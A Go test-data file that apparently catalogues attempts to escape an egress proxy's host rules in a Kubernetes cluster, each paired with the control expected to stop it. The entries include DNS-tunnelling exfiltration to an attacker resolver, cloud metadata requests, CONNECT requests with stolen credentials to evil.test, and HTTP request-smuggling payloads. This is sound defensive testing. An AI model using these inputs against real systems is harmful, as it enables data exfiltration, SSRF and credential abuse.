// Package attacks lists the attempts that the end-to-end tests make to get out of a server's pod past
// its host rules. docs/egress.md carries the list as a table.
package attacks

import (
	"fmt"
	"strings"
)

// Attack is one attempt. It is made inside the pod of a server with the host rules that Rules says.
type Attack struct {
	// ID names it in the documentation.
	ID string
	// What is tried, and what Stops it.
	What, Stops string
	// Args are the arguments of the toolbox. Words in braces stand for what the cluster gives: {dns}, {api},
	// {node}, {pod} and {service} of others, {proxy} a pod of the egress proxy, {auth} the server's own
	// credential, {stolen} that of another server under this one's name, {borrowed} its own under the other's.
	Args []string
	// Reason is in the answer of the proxy to a refused request. Empty for what never gets an answer.
	Reason string
	// Audit is the reason in the proxy's audit log, for what it hangs up on without an answer.
	Audit string
	// Never is what an answer must not hold, where the attempt as such may succeed.
	Never string
	// Free says that a pod that nothing restricts succeeds with the same, which is the control. Without it the
	// control is that the server itself reaches a listed host, before and after.
	Free bool
	// Stranger says that it is made by a pod that is no server, and the server succeeds with the same.
	Stranger bool
}

const (
	policy   = "the server's NetworkPolicy opens the proxy and not this"
	noDNS    = "the same; host rules open no DNS"
	list     = "the access list"
	literal  = "only names are let through, whatever notation an address is in"
	guard    = "the address guard: a name that leads inside is refused as a whole"
	hello    = "the ClientHello is read before a byte is forwarded"
	strict   = "the request is parsed strictly and written anew"
	absolute = "the target must be a whole http:// URL"
)

func get(rest string) string { return `GET ` + rest }

// plain is a request through the proxy, with the server's credential.
func plain(line, headers, body string) []string {
	return []string{"raw", line + ` HTTP/1.1\r\nProxy-Authorization: Basic {auth}\r\nConnection: close\r\n` + headers + `\r\n` + body}
}

func connectTo(authority string) []string {
	return []string{"raw", `CONNECT ` + authority + ` HTTP/1.1\r\nHost: ` + authority + `\r\nProxy-Authorization: Basic {auth}\r\n\r\n`}
}

const apiHost = `Host: api.example.test\r\n`

// All attempts. The server lists api.example.test on 80 and 443, *.example.test and *.turning.test on
// 443, and metadata.google.internal on 80.
func All() []Attack {
	return append(append(network(), tunnels()...), requests()...)
}

// network are the ways around the proxy.
func network() []Attack {
	return []Attack{
		{ID: "N01", What: "a listed host's IPv4 address, directly", Stops: policy, Args: []string{"dial", "tcp", "203.0.113.10:443"}, Free: true},
		{ID: "N02", What: "another host's IPv4 address, directly", Stops: policy, Args: []string{"dial", "tcp", "203.0.113.12:443"}, Free: true},
		{ID: "N03", What: "any other port of a host, directly", Stops: policy, Args: []string{"dial", "tcp", "203.0.113.10:9000"}, Free: true},
		{ID: "N04", What: "the cluster's DNS over UDP", Stops: noDNS, Args: []string{"lookup", "udp", "{dns}", "kubernetes.default.svc.cluster.local"}, Free: true},
		{ID: "N05", What: "the cluster's DNS over TCP", Stops: noDNS, Args: []string{"lookup", "tcp", "{dns}", "kubernetes.default.svc.cluster.local"}, Free: true},
		{ID: "N06", What: "an outside name by the cluster's DNS", Stops: noDNS, Args: []string{"lookup", "udp", "{dns}", "evil.test"}, Free: true},
		{ID: "N07", What: "an outside resolver over UDP", Stops: noDNS, Args: []string{"lookup", "udp", "203.0.113.53:53", "api.example.test"}, Free: true},
		{ID: "N08", What: "an outside resolver over TCP", Stops: noDNS, Args: []string{"lookup", "tcp", "203.0.113.53:53", "api.example.test"}, Free: true},
		{ID: "N09", What: "DNS tunnelling: data in the labels of a name, by the cluster's DNS", Stops: noDNS, Args: []string{"lookup", "udp", "{dns}", "nfxgk3tfoqqhg5lqmvzg64q.chunk-1.turning.test"}, Free: true},
		{ID: "N10", What: "DNS tunnelling by a resolver of the attacker's", Stops: noDNS, Args: []string{"lookup", "tcp", "203.0.113.53:53", "nfxgk3tfoqqhg5lqmvzg64q.chunk-2.turning.test"}, Free: true},
		{ID: "N11", What: "the metadata address, directly", Stops: policy, Args: []string{"dial", "tcp", "169.254.169.254:80"}, Free: true},
		{ID: "N12", What: "the API server by its Service", Stops: policy, Args: []string{"dial", "tcp", "{api}"}, Free: true},
		{ID: "N13", What: "the API server by the node's address", Stops: policy, Args: []string{"dial", "tcp", "{node}:6443"}, Free: true},
		{ID: "N14", What: "the kubelet", Stops: policy, Args: []string{"dial", "tcp", "{node}:10250"}, Free: true},
		{ID: "N15", What: "another pod of the namespace over TCP", Stops: policy, Args: []string{"dial", "tcp", "{pod}:7000"}, Free: true},
		{ID: "N16", What: "another pod of the namespace over UDP", Stops: policy, Args: []string{"dial", "udp", "{pod}:7000"}, Free: true},
		{ID: "N17", What: "a Service of the namespace", Stops: policy, Args: []string{"dial", "tcp", "{service}:80"}, Free: true},
		{ID: "N18", What: "the proxy's port for health and metrics", Stops: policy, Args: []string{"dial", "tcp", "{proxy}:8081"}},
		{ID: "N19", What: "the proxy, from a pod that is no server", Stops: "the proxy's NetworkPolicy lets servers of its namespace in, and nobody else", Args: []string{"dial", "tcp", "{proxy}:3128"}, Stranger: true},
	}
}

// tunnels are what CONNECT could be made to do.
func tunnels() []Attack {
	return []Attack{
		{ID: "T01", What: "a host that is not listed", Stops: list, Args: []string{"tunnel", "evil.test:443", "evil.test"}, Reason: "HostNotListed"},
		{ID: "T02", What: "the domain that a wildcard stands before", Stops: list + ": `*.` stands for what is below", Args: []string{"tunnel", "example.test:443", "example.test"}, Reason: "HostNotListed"},
		{ID: "T03", What: "a host that begins like a listed one", Stops: list + ": names are compared label by label", Args: []string{"tunnel", "api.example.test.evil.test:443", "api.example.test.evil.test"}, Reason: "HostNotListed"},
		{ID: "T04", What: "a host that ends like a listed one", Stops: list + ": names are compared label by label", Args: []string{"tunnel", "evilexample.test:443", "evilexample.test"}, Reason: "HostNotListed"},
		{ID: "T05", What: "a listed host on another port", Stops: list, Args: []string{"tunnel", "api.example.test:9000", "api.example.test"}, Reason: "PortNotListed"},
		{ID: "T06", What: "a host that is not listed, in upper case with a trailing dot", Stops: "names are compared in their normal form", Args: []string{"tunnel", "EVIL.test.:443", "evil.test"}, Reason: "HostNotListed"},
		{ID: "T07", What: "a name with two trailing dots", Stops: "it has no normal form", Args: connectTo("api.example.test..:443"), Reason: "HostMalformed"},
		{ID: "T08", What: "no credential", Stops: "each server has a credential of its own", Args: []string{"raw", `CONNECT api.example.test:443 HTTP/1.1\r\nHost: api.example.test:443\r\n\r\n`}, Reason: "CredentialMissing"},
		{ID: "T09", What: "another server's credential under one's own name", Stops: "each server has a credential of its own", Args: []string{"raw", `CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\nProxy-Authorization: Basic {stolen}\r\n\r\n`}, Reason: "CredentialWrong"},
		{ID: "T10", What: "one's own credential under another server's name", Stops: "each server has a credential of its own", Args: []string{"raw", `CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\nProxy-Authorization: Basic {borrowed}\r\n\r\n`}, Reason: "CredentialWrong"},
		{ID: "T11", What: "two credentials in one request", Stops: strict, Args: []string{"raw", `CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\nProxy-Authorization: Basic {auth}\r\nProxy-Authorization: Basic {stolen}\r\n\r\n`}, Reason: "40"},
		{ID: "T12", What: "an IPv4 address", Stops: literal, Args: connectTo("203.0.113.10:443"), Reason: "AddressLiteral"},
		{ID: "T13", What: "the same in decimal", Stops: literal, Args: connectTo("3405803786:443"), Reason: "AddressLiteral"},
		{ID: "T14", What: "the same in hex", Stops: literal, Args: connectTo("0xcb00710a:443"), Reason: "AddressLiteral"},
		{ID: "T15", What: "the same in octal", Stops: literal, Args: connectTo("0313.0.0161.012:443"), Reason: "AddressLiteral"},
		{ID: "T16", What: "the same in three parts", Stops: literal, Args: connectTo("203.0.28938:443"), Reason: "AddressLiteral"},
		{ID: "T17", What: "an IPv4-mapped IPv6 address", Stops: literal, Args: connectTo("[::ffff:203.0.113.10]:443"), Reason: "AddressLiteral"},
		{ID: "T18", What: "an IPv6 address", Stops: literal, Args: connectTo("[2001:db8::1]:443"), Reason: "AddressLiteral"},
		{ID: "T19", What: "an IPv6 address with a zone", Stops: literal, Args: connectTo("[fe80::1%25eth0]:443"), Reason: "AddressLiteral"},
		{ID: "T20", What: "an address with a trailing dot", Stops: literal, Args: connectTo("203.0.113.10.:443"), Reason: "AddressLiteral"},
		{ID: "T21", What: "a listed name that leads to a private address", Stops: guard, Args: []string{"tunnel", "private.example.test:443", "private.example.test"}, Reason: "AddressForbidden"},
		{ID: "T22", What: "a listed name that leads to a Service of the cluster", Stops: guard, Args: []string{"tunnel", "rebind.example.test:443", "rebind.example.test"}, Reason: "AddressForbidden"},
		{ID: "T23", What: "a listed name that leads to loopback", Stops: guard, Args: []string{"tunnel", "loopback.example.test:443", "loopback.example.test"}, Reason: "AddressForbidden"},
		{ID: "T24", What: "a listed name that leads to the metadata address", Stops: guard, Args: []string{"tunnel", "metadata.example.test:443", "metadata.example.test"}, Reason: "AddressForbidden"},
		{ID: "T25", What: "a listed name with a public and a private address", Stops: guard, Args: []string{"tunnel", "mixed.example.test:443", "mixed.example.test"}, Reason: "AddressForbidden"},
		{ID: "T26", What: "an SNI other than the name that was asked for", Stops: hello, Args: []string{"tunnel", "api.example.test:443", "evil.test"}, Audit: "ServerNameMismatch"},
		{ID: "T27", What: "the SNI of another host that is listed too", Stops: hello, Args: []string{"tunnel", "api.example.test:443", "www.example.test"}, Audit: "ServerNameMismatch"},
		{ID: "T28", What: "no SNI", Stops: hello, Args: []string{"tunnel", "api.example.test:443", "-"}, Audit: "ServerNameMissing"},
		{ID: "T29", What: "an encrypted client hello", Stops: hello + ", and what it hides cannot be", Args: []string{"tunnel", "api.example.test:443", "api.example.test", "ech"}, Audit: "EncryptedClientHello"},
		{ID: "T30", What: "another protocol than TLS in a tunnel", Stops: hello, Args: []string{"chat", "api.example.test:443", `SSH-2.0-OpenSSH_9.2\r\n`}, Audit: "NotTLS"},
		{ID: "T31", What: "plain HTTP in a tunnel", Stops: hello, Args: []string{"chat", "api.example.test:80", `GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n`}, Audit: "NotTLS"},
		{ID: "T32", What: "CONNECT without a port", Stops: strict, Args: connectTo("api.example.test"), Reason: "TargetRefused"},
		{ID: "T33", What: "CONNECT to a URL", Stops: strict, Args: connectTo("http://api.example.test:443/"), Reason: "TargetRefused"},
		{ID: "T34", What: "CONNECT to user@host", Stops: strict, Args: connectTo("api.example.test@evil.test:443"), Reason: "40"},
		{ID: "T35", What: "a NUL in the name", Stops: strict, Args: connectTo(`api.example.test\x00.evil.test:443`), Reason: "40"},
	}
}

// requests are what plain HTTP could be made to do.
func requests() []Attack {
	return []Attack{
		{ID: "H01", What: "a host that is not listed", Stops: list, Args: []string{"fetch", "http://evil.test/"}, Reason: "HostNotListed"},
		{ID: "H02", What: "a listed host on another port", Stops: list, Args: []string{"fetch", "http://api.example.test:8080/"}, Reason: "PortNotListed"},
		{ID: "H03", What: "a host that is listed for TLS alone", Stops: list, Args: []string{"fetch", "http://www.example.test/"}, Reason: "PortNotListed"},
		{ID: "H04", What: "the metadata address", Stops: literal, Args: []string{"fetch", "http://169.254.169.254/latest/meta-data/"}, Reason: "AddressLiteral"},
		{ID: "H05", What: "the metadata service by its name, which is listed", Stops: guard, Args: []string{"fetch", "http://metadata.google.internal/computeMetadata/v1/"}, Reason: "AddressForbidden"},
		{ID: "H06", What: "a Host header other than the URL's", Stops: strict, Args: plain(get("http://api.example.test/"), `Host: evil.test\r\n`, ""), Reason: "HostHeaderMismatch"},
		{ID: "H07", What: "two Host headers", Stops: strict, Args: plain(get("http://api.example.test/"), apiHost+`Host: evil.test\r\n`, ""), Reason: "BadRequest"},
		{ID: "H08", What: "a path instead of a URL", Stops: absolute, Args: plain(get("/"), apiHost, ""), Reason: "TargetRefused"},
		{ID: "H09", What: "an https:// URL, to be fetched by the proxy", Stops: absolute, Args: plain(get("https://api.example.test/"), apiHost, ""), Reason: "TargetRefused"},
		{ID: "H10", What: "an ftp:// URL", Stops: absolute, Args: plain(get("ftp://api.example.test/"), apiHost, ""), Reason: "TargetRefused"},
		{ID: "H11", What: "a URL with a user that looks like a host", Stops: absolute + " without a user", Args: plain(get("http://api.example.test@evil.test/"), `Host: evil.test\r\n`, ""), Reason: "TargetRefused"},
		{ID: "H12", What: "Content-Length and Transfer-Encoding together (smuggling)", Stops: strict, Args: plain(`POST http://api.example.test/`, apiHost+`Content-Length: 5\r\nTransfer-Encoding: chunked\r\n`, `0\r\n\r\n`), Reason: "BadRequest"},
		{ID: "H13", What: "two Content-Lengths (smuggling)", Stops: strict, Args: plain(`POST http://api.example.test/`, apiHost+`Content-Length: 0\r\nContent-Length: 5\r\n`, `hello`), Reason: "BadRequest"},
		{ID: "H14", What: "a Transfer-Encoding that is half hidden (smuggling)", Stops: strict, Args: plain(`POST http://api.example.test/`, apiHost+`Transfer-Encoding: xchunked\r\n`, `0\r\n\r\n`), Reason: "BadRequest"},
		{ID: "H15", What: "white space before a header's colon (smuggling)", Stops: strict, Args: plain(`POST http://api.example.test/`, apiHost+`Content-Length : 5\r\n`, `hello`), Reason: "BadRequest"},
		{ID: "H16", What: "a header folded over two lines", Stops: strict, Args: plain(get("http://api.example.test/"), apiHost+`X-A: b\r\n c: d\r\n`, ""), Reason: "BadRequest"},
		{ID: "H17", What: "a header that ends with a bare CR", Stops: strict, Args: plain(get("http://api.example.test/"), apiHost+`X-A: b\rHost: evil.test\r\n`, ""), Reason: "BadRequest"},
		{ID: "H18", What: "a second request behind the first (pipelining)", Stops: "a connection carries one request", Args: []string{"raw", `GET http://api.example.test/ HTTP/1.1\r\nHost: api.example.test\r\nProxy-Authorization: Basic {auth}\r\n\r\nGET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nProxy-Authorization: Basic {auth}\r\nConnection: close\r\n\r\n`}, Never: `"host":"evil.test"`},
		{ID: "H19", What: "a request in the body of another", Stops: strict, Args: plain(`POST http://api.example.test/`, apiHost+`Content-Length: 39\r\n`, `GET / HTTP/1.1\r\nHost: evil.test\r\nX: y\r\n\r\n`), Never: `"host":"evil.test"`},
		{ID: "H20", What: "a redirect to a host that is not listed", Stops: "redirects are handed back; the client's next request is judged by itself", Args: []string{"fetch", "http://api.example.test/?redirect=http://evil.test/"}, Reason: "HostNotListed"},
		{ID: "H21", What: "a redirect to the metadata address", Stops: "redirects are handed back; the client's next request is judged by itself", Args: []string{"fetch", "http://api.example.test/?redirect=http://169.254.169.254/"}, Reason: "AddressLiteral"},
		{ID: "H22", What: "a header of 100,000 bytes", Stops: "the size of a head is bounded", Args: plain(get("http://api.example.test/"), apiHost+`X-A: {long}\r\n`, ""), Reason: "HeadTooLarge"},
		{ID: "H23", What: "a URL of 100,000 bytes", Stops: "the size of a head is bounded", Args: plain(get("http://api.example.test/{long}"), apiHost, ""), Reason: "HeadTooLarge"},
		{ID: "H24", What: "an upgrade to another protocol", Stops: "upgrades are not forwarded", Args: []string{"raw", `GET http://api.example.test/ HTTP/1.1\r\nHost: api.example.test\r\nProxy-Authorization: Basic {auth}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n`}, Reason: "UpgradeRefused"},
	}
}

// More are attempts that take more than one request; tests of their own make them.
func More() []Attack {
	return []Attack{
		{ID: "M01", What: "a name whose address changes between check and connection (rebinding)", Stops: "a name is resolved once, and what was checked is dialled"},
		{ID: "M02", What: "a thousand half-open connections and tunnels, so that nobody else is served", Stops: "what is not yet a tunnel is bounded in number, per client, and in time"},
		{ID: "M03", What: "a tunnel that stays open when its rule goes", Stops: "the proxy reads a changed list within seconds and closes what it no longer allows"},
		{ID: "M04", What: "a tunnel that stays open when its server is quarantined", Stops: "the same"},
		{ID: "M05", What: "a listed name in upper case, with a trailing dot", Stops: "nothing: it is the same name, and is checked in its normal form"},
		{ID: "M06", What: "the proxy itself, taken over, to a host that no rule names (with Cilium)", Stops: "a CiliumNetworkPolicy on the proxy's pods"},
	}
}

// Table is the list as docs/egress.md carries it.
func Table() string {
	var b strings.Builder
	b.WriteString("| | What is tried | What stops it |\n| --- | --- | --- |\n")
	for _, a := range append(All(), More()...) {
		what := a.What
		switch a.ID[0] {
		case 'T':
			what = "by CONNECT: " + what
		case 'H':
			what = "by plain HTTP: " + what
		}
		fmt.Fprintf(&b, "| %s | %s | %s |\n", a.ID, what, a.Stops)
	}
	return b.String()
}
